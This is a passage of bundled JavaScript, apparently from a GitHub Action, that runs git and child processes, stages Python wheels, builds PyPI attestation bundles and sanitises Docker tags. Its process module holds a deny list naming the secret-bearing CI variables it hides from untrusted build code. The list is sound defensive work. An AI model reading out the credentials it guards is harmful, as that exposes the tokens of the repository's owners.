export const id = 637;
export const ids = [637];
export const modules = {

/***/ 56002:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   MU: () => (/* binding */ TimeoutError),
/* harmony export */   a3: () => (/* binding */ formatDuration),
/* harmony export */   eF: () => (/* binding */ run),
/* harmony export */   um: () => (/* binding */ stopAll),
/* harmony export */   v4: () => (/* binding */ ToolError),
/* harmony export */   w$: () => (/* binding */ lastLines)
/* harmony export */ });
/* unused harmony exports CommandError, StoppedError, childEnvironment */
/* harmony import */ var node_child_process__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(31421);
/* harmony import */ var node_child_process__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_child_process__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var _runner_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(45081);
// The one place that starts processes. Arguments go straight to the program
// (no shell), so branch and tag names are always data, never code. Every child
// gets the environment without the action's inputs (secrets among them), can
// have a deadline, and is stopped when the action itself is stopped.


class CommandError extends Error {
    command;
    result;
    constructor(command, result) {
        super(`${command} exited with code ${result.code}${lastLines(result, 5) ? `:\n${lastLines(result, 5)}` : ''}`);
        this.command = command;
        this.result = result;
        this.name = 'CommandError';
    }
}
/** A failure of an outside tool, carrying what the tool printed. */
class ToolError extends Error {
    output;
    constructor(message, output = '') {
        super(message);
        this.output = output;
        this.name = new.target.name;
    }
}
/** A program that ran past its deadline and was stopped: not tried again (a stall would only stall again). */
class TimeoutError extends ToolError {
    permanent = true;
}
/** A program stopped because the action was (a cancelled job). */
class StoppedError extends ToolError {
    permanent = true;
}
/** The last lines a program printed: standard error, or standard output when that is empty. */
function lastLines(r, n = 8) {
    return (r.stderr.trim() || r.stdout.trim()).split('\n').slice(-n).join('\n');
}
const running = new Set();
let stopping = false;
/**
 * What no child sees unless it is named: the action's inputs (INPUT_*, where the secrets are) and state (STATE_*,
 * which the post step trusts), the runner's files (a child could write the action's outputs, environment or
 * state), the runner's tokens and service URLs (ACTIONS_*: OIDC, cache, results), a workflow's GitHub tokens, and
 * the command line's secrets. The project's own build (setup.py, a build backend: a pull request's code) runs here.
 */
const HIDDEN = [
    /^INPUT_/,
    /^STATE_/,
    /^ACTIONS_/,
    /^GITHUB_(ENV|PATH|OUTPUT|STATE|STEP_SUMMARY|TOKEN)$/,
    /^GH_TOKEN$/,
    /^DEV_RELEASE_.*(PASSWORD|TOKEN|LOGINS)$/
];
/** The environment a child gets: the action's own without what it hides (HIDDEN), then `runnerVariables` and `extra`. */
function childEnvironment(extra = {}, runnerVariables = []) {
    const env = {};
    for (const [key, value] of Object.entries(process.env)) {
        if (value === undefined)
            continue;
        if (HIDDEN.some(p => p.test(key)) && !runnerVariables.includes(key))
            continue;
        env[key] = value;
    }
    return { ...env, ...extra };
}
/** How much of a streamed program's output is kept for its error message: the rest is in the log already. */
const KEPT_TAIL = 64 * 1024;
function keepTail(text) {
    return text.length > 2 * KEPT_TAIL ? text.slice(-KEPT_TAIL) : text;
}
async function run(program, args, options = {}) {
    if (stopping)
        throw new StoppedError(`Not starting ${program}: the action is being stopped.`);
    // A streamed program's output is the project's (a build, a Dockerfile's steps): the runner reads it as text only.
    if (options.stream) {
        (0,_runner_js__WEBPACK_IMPORTED_MODULE_1__/* .write */ .M9)(`[command]${program} ${args.join(' ')}\n`);
        return (0,_runner_js__WEBPACK_IMPORTED_MODULE_1__/* .asText */ .e1)(() => runChild(program, args, options));
    }
    return runChild(program, args, options);
}
async function runChild(program, args, options) {
    // A process group of its own, so that a deadline or a cancel stops the program's children too (docker's plugins).
    const child = (0,node_child_process__WEBPACK_IMPORTED_MODULE_0__.spawn)(program, args, {
        cwd: options.cwd,
        env: childEnvironment(options.env, options.runnerVariables),
        stdio: ['pipe', 'pipe', 'pipe'],
        detached: true
    });
    running.add(child);
    let stdout = '';
    let stderr = '';
    // Decoded as UTF-8 across chunk boundaries (a character split between two reads stays whole).
    // A streamed program's output is in the log as it comes; only its tail is kept, for the error it may end in.
    const keep = options.stream ? keepTail : (text) => text;
    child.stdout.setEncoding('utf8').on('data', (chunk) => {
        stdout = keep(stdout + chunk);
        if (options.stream)
            (0,_runner_js__WEBPACK_IMPORTED_MODULE_1__/* .write */ .M9)(chunk);
    });
    child.stderr.setEncoding('utf8').on('data', (chunk) => {
        stderr = keep(stderr + chunk);
        if (options.stream)
            (0,_runner_js__WEBPACK_IMPORTED_MODULE_1__/* .write */ .M9)(chunk);
    });
    child.stdin.on('error', () => undefined); // a program that exits without reading its input
    child.stdin.end(options.input ?? '');
    let timedOut = false;
    const timer = options.timeoutMs === undefined
        ? undefined
        : setTimeout(() => {
            timedOut = true;
            terminate(child);
        }, options.timeoutMs);
    const code = await new Promise((resolve, reject) => {
        child.on('error', error => reject(error));
        child.on('close', (status, signal) => resolve(status ?? (signal ? 128 + (signalNumber(signal) ?? 0) : -1)));
    }).finally(() => {
        clearTimeout(timer);
        running.delete(child);
    });
    const result = { code, stdout, stderr };
    if (timedOut) {
        const what = options.what ?? `${program} ${args[0] ?? ''}`.trim();
        throw new TimeoutError(`${what} did not finish within ${formatDuration(options.timeoutMs)} and was stopped.`, stdout + stderr);
    }
    if (stopping)
        throw new StoppedError(`${program} ${args[0] ?? ''} was stopped: the action is being stopped.`, stdout + stderr);
    if (code !== 0 && !options.allowFailure)
        throw new CommandError(`${program} ${args[0] ?? ''}`.trim(), result);
    return result;
}
/** SIGTERM to the program's process group, SIGKILL a few seconds later if it is still there. */
function terminate(child) {
    const signal = (name) => {
        try {
            process.kill(-child.pid, name);
        }
        catch {
            // already gone
        }
    };
    signal('SIGTERM');
    setTimeout(() => {
        if (child.exitCode === null && child.signalCode === null)
            signal('SIGKILL');
    }, 5000).unref();
}
/** Stop every running program and start no more: the job was cancelled. Resolves when they are gone. */
async function stopAll() {
    stopping = true;
    const children = [...running];
    for (const child of children)
        terminate(child);
    await Promise.all(children.map(child => new Promise(resolve => child.exitCode !== null || child.signalCode !== null ? resolve() : child.once('close', () => resolve()))));
}
function signalNumber(signal) {
    return { SIGTERM: 15, SIGKILL: 9, SIGINT: 2 }[signal];
}
function formatDuration(ms) {
    return ms >= 60_000 && ms % 60_000 === 0 ? `${ms / 60_000} min` : `${Math.round(ms / 1000)} s`;
}


/***/ }),

/***/ 69071:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   T: () => (/* binding */ Git)
/* harmony export */ });
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(73024);
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_fs__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(76760);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__webpack_require__.n(node_path__WEBPACK_IMPORTED_MODULE_1__);
/* harmony import */ var _exec_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(56002);
/* harmony import */ var _versions_glob_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(24395);
// Every git command the action runs. Nothing else in src/ calls git.




/** A deadline for git where none is given: the default request-timeout. */
const GIT_TIMEOUT_MS = 60_000;
class Git {
    cwd;
    timeoutMs;
    /** `timeoutMs` bounds every git command (request-timeout: a fetch from origin is a request). */
    constructor(cwd, timeoutMs = GIT_TIMEOUT_MS) {
        this.cwd = cwd;
        this.timeoutMs = timeoutMs;
    }
    async git(args, allowFailure = false) {
        // Never a prompt for credentials: a job has nobody to answer it, and would wait until its deadline.
        return (0,_exec_js__WEBPACK_IMPORTED_MODULE_2__/* .run */ .eF)('git', args, {
            cwd: this.cwd,
            allowFailure,
            timeoutMs: this.timeoutMs,
            what: `git ${args[0]} (request-timeout)`,
            env: { GIT_TERMINAL_PROMPT: '0' }
        });
    }
    /** Whether the work tree is a repository, and whether it is a shallow one: one git call. */
    async shallowness() {
        // The usual checkout answers without starting git, as setuptools_scm reads it: .git/shallow.
        const dotGit = (0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(this.cwd, '.git');
        if ((0,node_fs__WEBPACK_IMPORTED_MODULE_0__.existsSync)((0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(dotGit, 'HEAD')))
            return (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.existsSync)((0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(dotGit, 'shallow')) ? 'shallow' : 'full';
        const r = await this.git(['rev-parse', '--is-shallow-repository'], true);
        if (r.code !== 0)
            return 'not-a-repository';
        return r.stdout.trim() === 'true' ? 'shallow' : 'full';
    }
    /**
     * A clone of this repository at `dir`, its work tree at `commit` (detached), with every tag: what the commit's
     * checkout holds, with none of this work tree's changes or untracked files.
     */
    async cloneAt(dir, commit) {
        await this.git(['clone', '--quiet', '--no-checkout', '--', this.cwd, dir]);
        const clone = new Git(dir, this.timeoutMs);
        await clone.git(['checkout', '--quiet', '--detach', commit]);
        return clone;
    }
    /** Fetch the whole history and every tag of origin into a shallow clone. */
    async unshallow() {
        await this.git(['fetch', '--quiet', '--unshallow', '--tags', '--force', 'origin']);
    }
    async resolveCommit(rev) {
        const r = await this.git(['rev-parse', '--verify', '--quiet', '--end-of-options', `${rev}^{commit}`], true);
        return r.code === 0 ? r.stdout.trim() : undefined;
    }
    /** A file's text at a commit, its path relative to the work tree's directory; undefined where the commit has none. */
    async fileAt(commit, path) {
        const r = await this.git(['show', '--end-of-options', `${commit}:./${path.replace(/^\.\//, '')}`], true);
        return r.code === 0 ? r.stdout : undefined;
    }
    /**
     * setuptools_scm's describe: the nearest tag that `options` admit (by default
     * any tag containing a digit), and the number of commits since it. `exclude`
     * drops tags already found unusable. Undefined when no tag can describe the commit.
     */
    async describe(commit, options, exclude = []) {
        const args = ['describe', '--long'];
        if (options.tags)
            args.push('--tags');
        if (options.firstParent)
            args.push('--first-parent');
        for (const pattern of options.match)
            args.push('--match', pattern);
        for (const pattern of options.exclude)
            args.push('--exclude', pattern);
        for (const tag of exclude)
            args.push('--exclude', (0,_versions_glob_js__WEBPACK_IMPORTED_MODULE_3__/* .escapeGlob */ .y)(tag));
        const r = await this.git([...args, '--end-of-options', commit], true);
        if (r.code !== 0) {
            if (/no names found|no tags can describe|cannot describe|no annotated tags/i.test(r.stderr))
                return undefined;
            throw new Error(`git describe failed: ${r.stderr.trim()}`);
        }
        // <tag>-<distance>-g<hash>; the tag itself may contain dashes.
        const m = /^(.*)-(\d+)-g[0-9a-f]+$/.exec(r.stdout.trim());
        if (!m)
            throw new Error(`unexpected output of git describe: ${r.stdout.trim()}`);
        return { tag: m[1], distance: Number(m[2]) };
    }
    /**
     * A commit, in one git call: its full hash, its time (seconds since the epoch) and its date in
     * its committer's time zone (YYYY-MM-DD, as setuptools_scm reads it). Undefined when there is no such commit.
     */
    async commit(rev) {
        const r = await this.git(['-c', 'log.showSignature=false', 'log', '-n', '1', '--format=%H %ct %cI', '--end-of-options', `${rev}^{commit}`], true);
        if (r.code !== 0)
            return undefined;
        const [sha, epoch, iso] = r.stdout.trim().split(' ');
        return { sha, epoch: Number(epoch), date: iso.slice(0, 10) };
    }
    /** The files git tracks under these directories, as absolute paths. */
    async trackedFiles(dirs) {
        const r = await this.git(['ls-files', '-z', '--full-name', '--', ...dirs], true);
        if (r.code !== 0)
            return new Set();
        const top = (await this.git(['rev-parse', '--show-toplevel'])).stdout.trim();
        return new Set(r.stdout
            .split('\0')
            .filter(Boolean)
            .map(f => (0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(top, f)));
    }
    /** The work tree's root, where the directory is inside one; undefined outside any git repository. */
    async topLevel() {
        const r = await this.git(['rev-parse', '--show-toplevel'], true);
        return r.code === 0 ? r.stdout.trim() : undefined;
    }
    /** Tracked files with changes not committed (what setuptools_scm calls dirty). */
    async changedFiles() {
        const { stdout } = await this.git(['status', '--porcelain', '--untracked-files=no']);
        return stdout
            .split('\n')
            .filter(Boolean)
            .map(line => line.slice(3));
    }
    async countCommits(commit) {
        const { stdout } = await this.git(['rev-list', '--count', '--end-of-options', commit]);
        return Number(stdout.trim());
    }
    async tags() {
        const { stdout } = await this.git(['tag', '--list']);
        return stdout.split('\n').filter(Boolean);
    }
    async tagsAt(rev) {
        const { stdout } = await this.git(['tag', '--points-at', rev]);
        return stdout.split('\n').filter(Boolean);
    }
    async remoteUrl(remote = 'origin') {
        const r = await this.git(['remote', 'get-url', remote], true);
        return r.code === 0 ? r.stdout.trim() : undefined;
    }
    /**
     * The branches the remote has now, asked of the remote itself (a checkout's own refs may be stale). On a
     * runner it uses the credentials actions/checkout left; git never prompts, and stops after `timeoutMs`.
     */
    async remoteBranches(remote = 'origin') {
        const r = await this.git(['ls-remote', '--heads', '--end-of-options', remote]);
        return r.stdout
            .split('\n')
            .map(line => /^[0-9a-f]+\trefs\/heads\/(.+)$/.exec(line)?.[1])
            .filter((b) => b !== undefined);
    }
    async currentBranch() {
        const r = await this.git(['symbolic-ref', '--quiet', '--short', 'HEAD'], true);
        return r.code === 0 ? r.stdout.trim() : undefined;
    }
}


/***/ }),

/***/ 25335:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   To: () => (/* binding */ leftovers),
/* harmony export */   kY: () => (/* binding */ remember),
/* harmony export */   y6: () => (/* binding */ forget)
/* harmony export */ });
/* harmony import */ var _runner_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(45081);
// What a run leaves behind until it ends (its Docker config with the login, the
// builder it started, the files it staged), written to the runner's state as it
// is made, so that the post step removes whatever a killed main step left.

const KINDS = ['docker-config', 'builder', 'staged', 'staged-dir'];
const held = new Map(KINDS.map(kind => [kind, new Set()]));
function save(kind) {
    _runner_js__WEBPACK_IMPORTED_MODULE_0__/* .saveState */ .LZ(`leftover-${kind}`, JSON.stringify([...held.get(kind)]));
}
/** Note something made that the post step must remove if this run does not. */
function remember(kind, what) {
    held.get(kind).add(what);
    save(kind);
}
/** This run removed it (or keeps it on purpose): the post step leaves it alone. */
function forget(kind, what) {
    if (held.get(kind).delete(what))
        save(kind);
}
/** What the main step left, as the post step reads it from the runner's state. */
function leftovers() {
    const read = (kind) => {
        try {
            return JSON.parse(_runner_js__WEBPACK_IMPORTED_MODULE_0__/* .getState */ .Gu(`leftover-${kind}`) || '[]');
        }
        catch {
            return [];
        }
    };
    return {
        'docker-config': read('docker-config'),
        builder: read('builder'),
        staged: read('staged'),
        'staged-dir': read('staged-dir')
    };
}


/***/ }),

/***/ 89856:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Bm: () => (/* binding */ readVersioning),
/* harmony export */   t1: () => (/* binding */ findProject)
/* harmony export */ });
/* unused harmony export readProjectFiles */
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(73024);
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_fs__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(76760);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__webpack_require__.n(node_path__WEBPACK_IMPORTED_MODULE_1__);
/* harmony import */ var _versions_pyproject_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(95377);
/* harmony import */ var _versions_version_config_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(45710);
/* harmony import */ var _versions_tag_rules_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(27215);
// Reads the Python project's own files (pyproject.toml, setup.py) and what
// they say about versions, for the planner.





function readIfThere(path) {
    try {
        return (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.readFileSync)(path, 'utf8');
    }
    catch {
        return undefined;
    }
}
function readProjectFiles(dir) {
    return {
        pyproject: readIfThere((0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(dir, 'pyproject.toml')),
        setupPy: readIfThere((0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(dir, 'setup.py')),
        setupCfg: readIfThere((0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(dir, 'setup.cfg'))
    };
}
/** The Python project in `dir` (a pyproject.toml or a setup.py), or undefined where there is none. */
function findProject(dir) {
    const files = readProjectFiles(dir);
    if (files.pyproject === undefined && files.setupPy === undefined)
        return undefined;
    let name;
    try {
        name = (0,_versions_pyproject_js__WEBPACK_IMPORTED_MODULE_2__/* .readProjectInfo */ .Wx)(files).name;
    }
    catch {
        // Broken TOML is reported where the version settings are read; the build names it too.
    }
    return name === undefined ? { dir } : { dir, name };
}
/** The project's version configuration, and the tag rules that follow from it and the tag-prefix input. */
function readVersioning(projectDir, tagPrefix, env) {
    const files = readProjectFiles(projectDir);
    let info;
    const problems = [];
    try {
        info = (0,_versions_pyproject_js__WEBPACK_IMPORTED_MODULE_2__/* .readProjectInfo */ .Wx)(files);
    }
    catch (error) {
        problems.push(`${(0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(projectDir, 'pyproject.toml')} is not valid TOML: ${error.message.split('\n')[0]}`);
    }
    const reading = (0,_versions_version_config_js__WEBPACK_IMPORTED_MODULE_3__/* .readVersionConfig */ .T7)(info, files.setupPy, env);
    const { rules, problems: ruleProblems } = (0,_versions_tag_rules_js__WEBPACK_IMPORTED_MODULE_4__/* .tagRules */ .w8)(reading.config, tagPrefix);
    return {
        versioning: {
            config: reading.config,
            rules,
            ...(info?.fixedVersion ? { fixed: { ...info.fixedVersion, advice: (0,_versions_pyproject_js__WEBPACK_IMPORTED_MODULE_2__/* .versionAdvice */ .bC)(info) } } : {})
        },
        info,
        problems: [...problems, ...reading.problems, ...ruleProblems],
        notices: reading.notices,
        warnings: reading.warnings
    };
}


/***/ }),

/***/ 21033:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Ku: () => (/* binding */ DIST_FILE),
/* harmony export */   YI: () => (/* binding */ removeEmptyDirs),
/* harmony export */   ac: () => (/* binding */ unstage),
/* harmony export */   bI: () => (/* binding */ missingDirs),
/* harmony export */   qJ: () => (/* binding */ stageDists)
/* harmony export */ });
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(73024);
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_fs__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(76760);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__webpack_require__.n(node_path__WEBPACK_IMPORTED_MODULE_1__);
// Staging: the image's pkg/ directories get exactly this build's files.


/** A distribution file's name: a wheel or an sdist. */
const DIST_FILE = /\.(whl|tar\.gz)$/;
/**
 * The directories of `dirs` that do not exist yet, each with those of its parents that would be made with it: what
 * staging creates, and what the run removes again once they are empty.
 */
function missingDirs(dirs) {
    const missing = [];
    for (const dir of dirs) {
        for (let d = dir; !(0,node_fs__WEBPACK_IMPORTED_MODULE_0__.existsSync)(d) && !missing.includes(d); d = (0,node_path__WEBPACK_IMPORTED_MODULE_1__.dirname)(d))
            missing.push(d);
    }
    return missing;
}
/**
 * The staged files removed, then each directory staging made, deepest first, where nothing else is in it: the work
 * tree as the run found it (a pkg/ left at the root is a package to setuptools' flat-layout discovery).
 */
function unstage(files, dirs) {
    for (const file of files)
        (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.rmSync)(file, { force: true });
    removeEmptyDirs(dirs);
}
/** Each of `dirs` that `mayRemove` allows, deepest first, where nothing is in it (any more); returns those removed. */
function removeEmptyDirs(dirs, mayRemove = () => true) {
    const removed = [];
    for (const dir of [...dirs].sort((a, b) => b.length - a.length)) {
        if (!(0,node_fs__WEBPACK_IMPORTED_MODULE_0__.existsSync)(dir) || !mayRemove(dir) || (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.readdirSync)(dir).length)
            continue;
        (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.rmdirSync)(dir);
        removed.push(dir);
    }
    return removed;
}
/**
 * Into each directory (created if missing): remove earlier distribution files,
 * and only those (never one in `tracked`, the files git tracks), then copy the
 * new ones in. Returns the files removed.
 * `epoch` (the commit's time) becomes every staged file's and directory's time,
 * so that the image layer holding them is the same on a re-run.
 */
function stageDists(dirs, files, epoch, tracked = new Set()) {
    const removed = [];
    for (const dir of dirs) {
        (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.mkdirSync)(dir, { recursive: true });
        for (const entry of (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.readdirSync)(dir)) {
            const path = (0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(dir, entry);
            // A file that git tracks is the project's own (a vendored archive), never an earlier build.
            if (DIST_FILE.test(entry) && !tracked.has(path) && (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.lstatSync)(path).isFile()) {
                (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.rmSync)(path);
                removed.push(path);
            }
        }
        for (const file of files) {
            (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.copyFileSync)(file, (0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(dir, (0,node_path__WEBPACK_IMPORTED_MODULE_1__.basename)(file)));
            if (epoch !== undefined)
                (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.utimesSync)((0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(dir, (0,node_path__WEBPACK_IMPORTED_MODULE_1__.basename)(file)), epoch, epoch);
        }
        if (epoch !== undefined)
            (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.utimesSync)(dir, epoch, epoch);
    }
    return removed;
}


/***/ }),

/***/ 12491:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Je: () => (/* binding */ PUBLISH_ATTESTATION),
/* harmony export */   Or: () => (/* binding */ logIndexOf),
/* harmony export */   Uy: () => (/* binding */ distStatement),
/* harmony export */   ZD: () => (/* binding */ pep740),
/* harmony export */   a5: () => (/* binding */ attestDecision),
/* harmony export */   f: () => (/* binding */ tokenClaims),
/* harmony export */   fS: () => (/* binding */ pep740AsBundle),
/* harmony export */   ho: () => (/* binding */ reusableWorkflow)
/* harmony export */ });
/** PyPI's publish attestation: this file was published by this trusted publisher. */
const PUBLISH_ATTESTATION = 'https://docs.pypi.org/attestations/publish/v1';
const STATEMENT_V1 = 'https://in-toto.io/Statement/v1';
/** The hosts whose indexes take attestations: pypi.org's and test.pypi.org's upload endpoints. */
const ATTESTING_HOSTS = ['upload.pypi.org', 'test.pypi.org'];
/** Whether the files are signed before the upload, and why not where they are not. */
function attestDecision(request) {
    if (request.mode === 'false')
        return { sign: false, why: 'attest-dists is false' };
    if (request.token)
        return {
            sign: false,
            why: 'the upload uses an API token, and an index takes attestations only under trusted publishing (no pypi-token, and permissions: id-token: write)'
        };
    const host = URL.canParse(request.uploadUrl) ? new URL(request.uploadUrl).host : request.uploadUrl;
    if (request.mode === 'auto' && !ATTESTING_HOSTS.includes(host))
        return {
            sign: false,
            why: `attest-dists: auto signs for pypi.org and test.pypi.org only, not ${host} (set attest-dists: true where the index takes attestations)`
        };
    return { sign: true };
}
/** The claims of a JSON web token (its middle part), unverified: what the token says it is. */
function tokenClaims(jwt) {
    try {
        return JSON.parse(Buffer.from(jwt.split('.')[1] ?? '', 'base64url').toString('utf8'));
    }
    catch {
        return {};
    }
}
/**
 * Why a job's token cannot sign for PyPI: a reusable workflow (the job's workflow is not the caller's), whose
 * identity PyPI's trusted publishing does not match. Undefined where it can.
 */
function reusableWorkflow(claims) {
    const caller = claims.workflow_ref;
    const job = claims.job_workflow_ref;
    if (typeof caller !== 'string' || typeof job !== 'string' || caller === job)
        return undefined;
    return `the job runs in the reusable workflow ${job}, called from ${caller}: PyPI refuses attestations signed by a reusable workflow`;
}
/** The statement signed for one dist: its file name and digest, PyPI's publish predicate. */
function distStatement(name, sha256) {
    return {
        _type: STATEMENT_V1,
        subject: [{ name, digest: { sha256 } }],
        predicateType: PUBLISH_ATTESTATION,
        predicate: {}
    };
}
/** The bundle's entry in the transparency log ('' where a timestamp authority witnessed it instead). */
function logIndexOf(bundle) {
    return String(bundle.verificationMaterial.tlogEntries?.[0]?.logIndex ?? '');
}
/** The PEP 740 attestation object of a bundle: the leaf certificate, the log entries, the statement and its signature. */
function pep740(bundle) {
    const material = bundle.verificationMaterial;
    const certificate = material.certificate?.rawBytes ?? material.x509CertificateChain?.certificates[0]?.rawBytes;
    const signatures = bundle.dsseEnvelope.signatures;
    if (!certificate)
        throw new Error('the signing bundle holds no certificate');
    if (!material.tlogEntries?.length)
        throw new Error('the signing bundle holds no transparency log entry');
    if (signatures.length !== 1)
        throw new Error(`the envelope holds ${signatures.length} signatures, not one`);
    return {
        version: 1,
        verification_material: { certificate, transparency_entries: material.tlogEntries },
        envelope: { statement: bundle.dsseEnvelope.payload, signature: signatures[0].sig }
    };
}
/** A PEP 740 attestation (as the index serves it) as the Sigstore bundle it was made from. */
function pep740AsBundle(attestation) {
    return {
        mediaType: 'application/vnd.dev.sigstore.bundle.v0.3+json',
        verificationMaterial: {
            certificate: { rawBytes: attestation.verification_material.certificate },
            tlogEntries: attestation.verification_material.transparency_entries,
            timestampVerificationData: { rfc3161Timestamps: [] }
        },
        dsseEnvelope: {
            payload: attestation.envelope.statement,
            payloadType: 'application/vnd.in-toto+json',
            signatures: [{ sig: attestation.envelope.signature, keyid: '' }]
        }
    };
}


/***/ }),

/***/ 41133:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   LT: () => (/* binding */ imageRefsOf),
/* harmony export */   TY: () => (/* binding */ branchTag),
/* harmony export */   Wq: () => (/* binding */ passesForRelease),
/* harmony export */   al: () => (/* binding */ stagingTag),
/* harmony export */   iP: () => (/* binding */ sanitizeTag),
/* harmony export */   sM: () => (/* binding */ BRANCH_PREFIX)
/* harmony export */ });
/* harmony import */ var node_crypto__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(77598);
/* harmony import */ var node_crypto__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_crypto__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var _versions_pep440_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(42422);
// Docker tags for a release or a development release.


const MAX_TAG = 128;
/** Prefix for branch tags that would otherwise pass for `latest` or a version. */
const BRANCH_PREFIX = 'branch-';
/**
 * A name made a valid Docker tag (`[A-Za-z0-9_][A-Za-z0-9_.-]{0,127}`):
 * `feature/implement-doodad` becomes `feature-implement-doodad`; where other
 * characters had to go, a short hash of the name keeps it apart (`feature-ä` →
 * `feature-1a2b3c4d`); a name over 128 characters is cut and hashed.
 */
function sanitizeTag(name) {
    let tag = name.replace(/[^A-Za-z0-9_.-]+/g, '-').replace(/^[.-]+/, '');
    if (tag === '')
        return `${BRANCH_PREFIX}${shortHash(name)}`;
    // Only `/` → `-` keeps a name apart from others; anything else lost (`feature/ä`,
    // `fix/#12`) could give two branches one tag, so a hash of the full name follows.
    if (tag !== name.replace(/\//g, '-'))
        tag = `${tag.replace(/-+$/, '')}-${shortHash(name)}`;
    return cut(tag, name);
}
/**
 * Whether a tag could pass for one another owner makes: a release's (`latest`, or anything PEP 440 reads as a
 * version: `1.1.0`, `v2`, `2024-01`), a signature's or referrer's (`sha256-<digest>…`, which cleanup never deletes),
 * or a platform image's staging tag (`…--linux-arm64`).
 */
function passesForRelease(tag) {
    return (/^latest$/i.test(tag) ||
        (0,_versions_pep440_js__WEBPACK_IMPORTED_MODULE_1__/* .parseVersion */ .ot)(tag) !== undefined ||
        /^sha256-[0-9a-f]{64}/i.test(tag) ||
        /--[a-z0-9]+-[a-z0-9]+(-v\d+)?$/i.test(tag));
}
/**
 * The branch's own image tag: its name made a valid tag (sanitizeTag). A tag another owner could produce — a
 * release's version or `latest` (passesForRelease), or a tag the configured templates give (`reserved`: an
 * alias, a channel, a traceable tag) — gets the `branch-` prefix, so a branch never overwrites what is not its own.
 */
function branchTag(branch, reserved = () => false) {
    const tag = sanitizeTag(branch);
    return passesForRelease(tag) || reserved(tag) ? cut(BRANCH_PREFIX + tag, branch) : tag;
}
function cut(tag, name) {
    if (tag.length <= MAX_TAG)
        return tag;
    // Cut, and keep names that share their first 119 characters apart.
    const hash = shortHash(name);
    return `${tag.slice(0, MAX_TAG - hash.length - 1)}-${hash}`;
}
function shortHash(text) {
    return (0,node_crypto__WEBPACK_IMPORTED_MODULE_0__.createHash)('sha256').update(text).digest('hex').slice(0, 8);
}
/** Full references (`image:tag`) for the tags. */
function imageRefsOf(image, tags) {
    return tags.map(tag => `${image}:${tag}`);
}
/**
 * The tag a single platform's image goes under where it cannot be pushed by
 * digest: `image:feature-x--linux-arm-v7`, kept within Docker's 128 characters.
 */
function stagingTag(ref, platform) {
    const at = ref.lastIndexOf(':');
    const [image, tag] = [ref.slice(0, at), ref.slice(at + 1)];
